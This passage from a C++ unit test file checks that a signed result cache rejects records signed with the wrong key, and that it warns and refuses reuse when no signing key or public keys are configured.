  record.signature = SignRecord(record, "other key");
  StoreRawRecord("api", record.key, RecordToJson(record));
  EXPECT_FALSE(FindUnder(Signed("s3cret"), record.key)) << "signed by another key";
}

TEST_F(TrustedCacheTest, WithoutASigningKeySignedTrustSaysSoOnce) {
  Record a = Valid(SampleRecord("api", "", MakeResult("1")));
  a.signature = SignRecord(a, "s3cret");
  StoreRawRecord("api", a.key, RecordToJson(a));
  RecordIndex index(index_path());
  ResultCache cache(*repo_, &index);
  cache.SetPolicy(Signed(""));
  cache.SetWarningSink([this](const std::string& w) { warnings_.push_back(w); });
  EXPECT_FALSE(cache.Find("api", a.key));
  EXPECT_FALSE(cache.Find("api", a.key));
  ASSERT_EQ(warnings_.size(), 2u);
  EXPECT_EQ(warnings_[0],
            "settings.cache_trust is \"signed\" but ORCHESTRATE_CACHE_SIGNING_KEY is not set and "
            "settings.cache_public_keys is empty: no cache record can be verified, so none is "
            "reused");
  EXPECT_EQ(warnings_[1], "ignoring cache record " + ResultCache::RefName("api", a.key) +
                              ": its signature cannot be checked without "
                              "ORCHESTRATE_CACHE_SIGNING_KEY or settings.cache_public_keys");
}

}  // namespace
}  // namespace orchestrate
